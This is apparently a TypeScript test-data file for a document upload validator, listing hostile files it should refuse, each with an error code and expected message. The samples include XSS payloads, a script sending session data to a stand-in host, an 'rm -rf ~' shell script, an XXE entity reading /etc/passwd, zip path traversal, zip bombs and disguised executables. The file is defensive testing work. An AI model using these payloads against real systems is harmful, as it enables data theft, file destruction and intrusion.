import { aCompoundFile, aDoc } from '@slotwise/test-data/a-compound-file';
import { aDocx, anOdt, anRtf, aPdf, aRelation, docxParts } from '@slotwise/test-data/a-document';
import { aJpeg, aJpegSegment, aPng, aPngChunk, aPngHeader, PNG_START } from '@slotwise/test-data/a-picture';
import { aZip } from '@slotwise/test-data/a-zip';

/** A file that is refused: its name, its bytes, the error code and the message. */
type HostileFile = [title: string, fileName: string, bytes: () => Buffer, code: string, says: RegExp];

const TYPE = 'FILE_TYPE_NOT_ALLOWED';
const ZIP = 'ZIP_UNSAFE';
const MEGABYTE = 1024 * 1024;
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
const SCRIPT = Buffer.from('fetch("https://evil.example/?" + sessionStorage.user);');
const EXE = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(200)]);
const DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
const smallZip = () => aZip([{ name: 'run.js', content: SCRIPT }]);
const part = (name: string, content: string | Buffer = 'x') => aDocx(undefined, [{ name, content }]);
const cutOff = (bytes: Buffer, count: number) => bytes.subarray(0, bytes.length - count);

const byName: HostileFile[] = [
  ['an SVG drawing', 'logo.svg', () => SVG, TYPE, /SVG can carry scripts.*PNG/],
  ['a web page', 'cv.html', () => HTML, TYPE, /web page or script/],
  ['a script', 'cv.js', () => SCRIPT, TYPE, /web page or script/],
  ['a document for macros', 'cv.docm', () => aDocx(), TYPE, /macros.*Save it as \.docx/],
  ['an archive', 'cv.zip', smallZip, TYPE, /one by one/],
  ['a program', 'cv.exe', () => EXE, TYPE, /\.exe files are not taken, only PDF/],
  ['a script behind two endings', 'cv.pdf.js', () => SCRIPT, TYPE, /web page or script/],
  ['a name without an ending', 'resume', () => aPdf(), TYPE, /no ending such as \.pdf/],
  ['a name that is an ending alone', '.pdf', () => aPdf(), TYPE, /no ending such as \.pdf/],
  [
    'an ending hidden by a turn of direction',
    'cv\u202Efdp.exe',
    () => EXE,
    TYPE,
    /\.exe files are not taken/,
  ],
];

const renamed: HostileFile[] = [
  ['SVG as PNG', 'a.png', () => SVG, TYPE, /not a PNG picture/],
  ['HTML as PDF', 'a.pdf', () => HTML, TYPE, /not a PDF/],
  ['a script as JPEG', 'a.jpg', () => SCRIPT, TYPE, /not a JPEG/],
  ['HTML as text', 'a.txt', () => HTML, TYPE, /web page, drawing or script/],
  ['SVG as text', 'a.txt', () => SVG, TYPE, /web page, drawing or script/],
  ['a shell script as text', 'a.txt', () => Buffer.from('#!/bin/sh\nrm -rf ~'), TYPE, /script/],
  ['a program as PDF', 'a.pdf', () => EXE, TYPE, /not a PDF/],
  ['a program as text', 'a.txt', () => EXE, TYPE, /not a plain text/],
  ['a picture as PDF', 'a.pdf', () => aPng(), TYPE, /not a PDF/],
  ['a PDF as picture', 'a.png', () => aPdf(), TYPE, /not a PNG/],
  ['HTML as Word', 'a.doc', () => HTML, TYPE, /not a Word document/],
  ['HTML as RTF', 'a.rtf', () => HTML, TYPE, /not an RTF/],
  ['any zip as Word', 'a.docx', smallZip, TYPE, /not a Word document/],
  ['a Word document as OpenDocument', 'a.odt', () => aDocx(), TYPE, /not an OpenDocument/],
  ['a spreadsheet as Word', 'a.doc', () => aCompoundFile(['Workbook']), TYPE, /not a Word document/],
  ['text in UTF-16', 'a.txt', () => Buffer.from('\ufeffhello', 'utf16le'), TYPE, /Save it as UTF-8/],
];

const polyglots: HostileFile[] = [
  ['PDF and zip', 'a.pdf', () => Buffer.concat([aPdf(), smallZip()]), TYPE, /two things at once/],
  ['a PDF behind a script', 'a.pdf', () => Buffer.concat([SCRIPT, aPdf()]), TYPE, /not a PDF/],
  ['a PDF with a page behind it', 'a.pdf', () => Buffer.concat([aPdf(), HTML]), TYPE, /something follows/],
  ['PNG and zip', 'a.png', () => Buffer.concat([aPng(), smallZip()]), TYPE, /hidden behind the end/],
  ['RTF and zip', 'a.rtf', () => Buffer.concat([anRtf(), smallZip()]), TYPE, /two things at once/],
  [
    'text and zip',
    'a.txt',
    () => Buffer.concat([Buffer.from('Resume\n'), smallZip()]),
    TYPE,
    /two things|plain text/,
  ],
];

const broken: HostileFile[] = [
  ['an empty file', 'a.pdf', () => Buffer.alloc(0), 'VALIDATION_FAILED', /empty/],
  ['a PDF that is cut', 'a.pdf', () => cutOff(aPdf(), 20), TYPE, /damaged.*end is missing/],
  ['a PDF without its table', 'a.pdf', () => Buffer.from('%PDF-1.7\n%%EOF'), TYPE, /table of contents/],
  ['a PNG that is cut', 'a.png', () => cutOff(aPng(), 6), TYPE, /ends too early/],
  [
    'a PNG with a wrong sum',
    'a.png',
    () => Buffer.concat([PNG_START, aPngHeader().fill(1, 20, 24)]),
    TYPE,
    /checksum/,
  ],
  [
    'a PNG of 40,000 × 40,000',
    'a.png',
    () => aPng([], aPngHeader(40_000, 40_000)),
    TYPE,
    /100 million points/,
  ],
  [
    'a PNG chunk of 4 GB',
    'a.png',
    () => Buffer.concat([PNG_START, aPngHeader(), Buffer.from('ffffffff49444154', 'hex')]),
    TYPE,
    /too early/,
  ],
  ['a JPEG that is cut', 'a.jpg', () => cutOff(aJpeg(), 2), TYPE, /ends too early/],
  ['a JPEG without a picture', 'a.jpg', () => Buffer.from('ffd8ffd9', 'hex'), TYPE, /no picture/],
  ['a JPEG segment of no length', 'a.jpg', () => Buffer.from('ffd8ffe00000', 'hex'), TYPE, /no length/],
  ['an RTF that is cut', 'a.rtf', () => cutOff(anRtf(), 1), TYPE, /end is missing/],
  ['a docx that is cut', 'a.docx', () => cutOff(aDocx(), 10), TYPE, /container cannot be read/],
  ['a doc that is cut', 'a.doc', () => aDoc().subarray(0, 600), TYPE, /container is cut/],
  [
    'a doc that goes in circles',
    'a.doc',
    () => {
      const bytes = aDoc();
      bytes.writeUInt32LE(1, 512 + 4);
      return bytes;
    },
    TYPE,
    /circles/,
  ],
  [
    'a file of 20 MB and a byte',
    'a.txt',
    () => Buffer.alloc(20 * MEGABYTE + 1, 'x'),
    'FILE_TOO_LARGE',
    /at most 20 MB/,
  ],
];

const containers: HostileFile[] = [
  [
    'a bomb of 300 MB',
    'a.docx',
    () => part('word/media/a.bin', Buffer.alloc(300 * MEGABYTE)),
    ZIP,
    /200 times|200 MB/,
  ],
  [
    'a bomb of many parts',
    'a.docx',
    () => aZip(Array.from({ length: 2001 }, (_, n) => ({ name: `a${n}`, content: '' }))),
    ZIP,
    /2000 parts/,
  ],
  [
    'text that unpacks to 70 MB',
    'a.docx',
    () =>
      aDocx(
        undefined,
        Array.from({ length: 10 }, (_, n) => ({
          name: `word/a${n}.xml`,
          content: Buffer.alloc(7 * MEGABYTE, ' '),
        })),
      ),
    ZIP,
    /64 MB/,
  ],
  [
    'a part larger than it claims',
    'a.docx',
    () => aDocx(undefined, [{ name: 'word/document.xml', content: 'x'.repeat(5000), claimedSize: 10 }]),
    TYPE,
    /container cannot be read/,
  ],
  [
    'parts that overlap',
    'a.docx',
    () => {
      const one = { name: 'word/a.bin', content: Buffer.alloc(100, 7), stored: true };
      const bytes = aZip(docxParts(undefined, [one]));
      const at = bytes.lastIndexOf('PK\x01\x02');
      bytes.writeUInt32LE(9_000_000, at + 20);
      bytes.writeUInt32LE(9_000_000, at + 24);
      return bytes;
    },
    ZIP,
    /overlap/,
  ],
  ['two parts of one name', 'a.docx', () => aZip([...docxParts(), ...docxParts()]), ZIP, /same name/],
  ['a part that climbs out', 'a.docx', () => part('../../etc/passwd'), ZIP, /leads out/],
  ['a part at the root', 'a.docx', () => part('/etc/passwd'), ZIP, /leads out/],
  [
    'an encrypted part',
    'a.docx',
    () => aDocx(undefined, [{ name: 'word/a.bin', content: 'x', flags: 1 }]),
    TYPE,
    /password/,
  ],
  [
    'an unusual packing',
    'a.docx',
    () => aDocx(undefined, [{ name: 'word/a.bin', content: 'x', method: 12 }]),
    ZIP,
    /unusual/,
  ],
  ['macros under .docx', 'a.docx', () => part('word/vbaProject.bin'), TYPE, /macros/],
  [
    'the type of a macro document',
    'a.docx',
    () =>
      part(
        '[Content_Types].xml',
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
    TYPE,
    /macros/,
  ],
  ['ActiveX controls', 'a.docx', () => part('word/activeX/activeX1.xml', '<x/>'), TYPE, /macros/],
  ['an embedded object', 'a.docx', () => part('word/embeddings/oleObject1.bin'), TYPE, /embeds an object/],
  [
    'a template from afar',
    'a.docx',
    () => part('word/_rels/settings.xml.rels', aRelation('attachedTemplate', 'https://evil.example/t.dotm')),
    TYPE,
    /fetches a template/,
  ],
  ['a document type in a part', 'a.docx', () => part('word/document.xml', DOCTYPE), TYPE, /document type/],
  [
    'a part in UTF-16',
    'a.docx',
    () => part('word/document.xml', Buffer.from(DOCTYPE, 'utf16le')),
    TYPE,
    /not in UTF-8/,
  ],
  [
    'a docx with a password',
    'a.docx',
    () => aCompoundFile(['EncryptionInfo', 'EncryptedPackage']),
    TYPE,
    /password/,
  ],
  [
    'an encrypted docx as doc',
    'a.doc',
    () => aCompoundFile(['EncryptionInfo', 'EncryptedPackage']),
    TYPE,
    /password/,
  ],
  ['a doc with macros', 'a.doc', () => aDoc(['Macros', 'VBA', '_VBA_PROJECT']), TYPE, /macros/],
  ['a doc with a password', 'a.doc', () => aDoc([], 0x0100), TYPE, /password/],
  ['a doc that embeds a file', 'a.doc', () => aDoc(['\u0001Ole10Native']), TYPE, /embeds another file/],
  [
    'an odt with macros',
    'a.odt',
    () => anOdt([{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
    TYPE,
    /macros/,
  ],
  [
    'an odt with a password',
    'a.odt',
    () => anOdt([{ name: 'META-INF/manifest.xml', content: '<m><manifest:encryption-data/></m>' }]),
    TYPE,
    /password/,
  ],
  [
    'an odt with a document type',
    'a.odt',
    () => anOdt([{ name: 'content.xml', content: DOCTYPE }]),
    TYPE,
    /document type/,
  ],
  [
    'an RTF with an object',
    'a.rtf',
    () => anRtf('{\\object\\objemb{\\*\\objdata 0105}}'),
    TYPE,
    /embeds an object/,
  ],
  [
    'a JPEG of wrong markers',
    'a.jpg',
    () => Buffer.concat([aJpeg([aJpegSegment(0xe1, 'x'), Buffer.from('zz')])]),
    TYPE,
    /marker is missing/,
  ],
  [
    'a PNG without its header',
    'a.png',
    () => Buffer.concat([PNG_START, aPngChunk('IDAT', 'x')]),
    TYPE,
    /row of chunks/,
  ],
];

export const HOSTILE_FILES = [...byName, ...renamed, ...polyglots, ...broken, ...containers].map(
  ([title, fileName, bytes, code, says]) => ({ title, fileName, bytes, code, says }),
);
